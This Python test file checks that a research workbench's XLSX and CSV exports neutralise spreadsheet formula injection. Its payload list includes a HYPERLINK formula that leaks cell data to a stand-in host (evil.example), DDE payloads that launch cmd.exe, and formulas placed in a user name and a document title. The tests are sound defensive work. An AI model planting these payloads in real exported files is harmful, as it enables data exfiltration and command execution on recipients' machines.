"""Formula injection through the full export: no exported cell is ever a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from workbench.codebooks import codes as codebooks
from workbench.coding import actions as coding
from workbench.formats.cells import unguard_csv
from workbench.formats.scope import ExportScope
from workbench.interchange import exports
from workbench.models import Document
from workbench.models import Passage

# Leads that spreadsheets evaluate (=, +, -, @, tab, CR), hyperlinks, DDE, and text that only
# looks risky. Each goes into a memo; the first ones also into passage text and a title.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=1+1\r\nsecond line",
    "#N/A",
    "- a dash-led list item",
    "'=already quoted",
    "-5",
]
IN_TEXT = [
    "=1+1 is what the delegate wrote.",
    "+SUM(1,2) was in the note.",
    "@UN: the Council said so.",
    "- a dash-led list item.",
]


def _study(session: Session, make_user: Any, make_project: Any, import_text: Any) -> Any:
    lead = make_user("lead")
    coder = make_user("coder1", name="=coder name")
    project = make_project("Injection", lead=lead, coders=(coder,))
    codebooks.ensure_seed_codebook(session, project, lead)
    session.commit()
    body = "\n\n".join([*IN_TEXT, *[f"Paragraph {i}." for i in range(len(PAYLOADS))]])
    import_text(project, [("payloads.txt", body.encode())])
    doc = session.scalar(select(Document).where(Document.project_id == project.id))
    doc.title = '=HYPERLINK("http://x")'
    passages = list(
        session.scalars(
            select(Passage).where(Passage.document_id == doc.id).order_by(Passage.ordinal)
        )
    )
    code = next(c for c in codebooks.live_codes(session, project) if c.is_codable)
    for passage, payload in zip(passages, PAYLOADS, strict=False):
        coding.apply_code(session, project, coder, passage.id, code.id, stance=1, memo=payload)
    session.commit()
    return project


def test_payloads_stay_text_in_xlsx_and_no_sheet_holds_a_formula(
    session: Session, make_user: Any, make_project: Any, import_text: Any
) -> None:
    project = _study(session, make_user, make_project, import_text)
    buf = io.BytesIO()
    exports.write_export(session, project, ExportScope(bootstrap=0), "xlsx", buf)
    data = buf.getvalue()
    wb = load_workbook(io.BytesIO(data))
    found: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if (
                    cell.value in PAYLOADS
                    or cell.value in IN_TEXT
                    or cell.value == '=HYPERLINK("http://x")'
                ):
                    found.add(cell.value)
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip(" ")[:1] in (
                    "=",
                    "+",
                    "@",
                    "\t",
                    "\r",
                ):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, (ws.title, cell.coordinate)  # stays text when edited
    assert set(PAYLOADS) <= found, set(PAYLOADS) - found  # exact text, CR and tab included
    assert set(IN_TEXT) <= found
    dash = next(
        c for ws in wb for row in ws.iter_rows() for c in row if c.value == "- a dash-led list item"
    )
    assert dash.value == "- a dash-led list item"  # reads naturally: no apostrophe in the text
    archive = zipfile.ZipFile(io.BytesIO(data))
    sheets = [
        n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
    ]
    assert len(sheets) == 13  # the study's codebook has keywords: a Keywords sheet too
    for name in sheets:
        xml = archive.read(name).decode("utf-8")
        assert not re.search(r"<(\w+:)?f[ >/]", xml), name  # no formula element anywhere
    # The chart lives in its own part; its only formulas are references to the data it plots.
    charts = [n for n in archive.namelist() if n.startswith("xl/charts/")]
    refs = [r for n in charts for r in re.findall(r"<f>(.*?)</f>", archive.read(n).decode())]
    assert refs and all(
        re.fullmatch(r"'Frequencies'!\$?[A-Z]+\$?\d+(:\$?[A-Z]+\$?\d+)?", r) for r in refs
    ), refs


def test_payloads_are_guarded_in_csv_and_unguard_exactly(
    session: Session, make_user: Any, make_project: Any, import_text: Any
) -> None:
    project = _study(session, make_user, make_project, import_text)
    buf = io.BytesIO()
    exports.write_export(session, project, ExportScope(bootstrap=0), "csv", buf)
    archive = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    seen: set[str] = set()
    for name in archive.namelist():
        text = archive.read(name).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for value in row:
                stripped = value.lstrip(" ")
                if value and not re.fullmatch(r"[+-]?\d+(\.\d+)?", value):
                    assert stripped[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, value)
                seen.add(unguard_csv(value))
    assert set(PAYLOADS) <= seen
    assert "-5" in seen
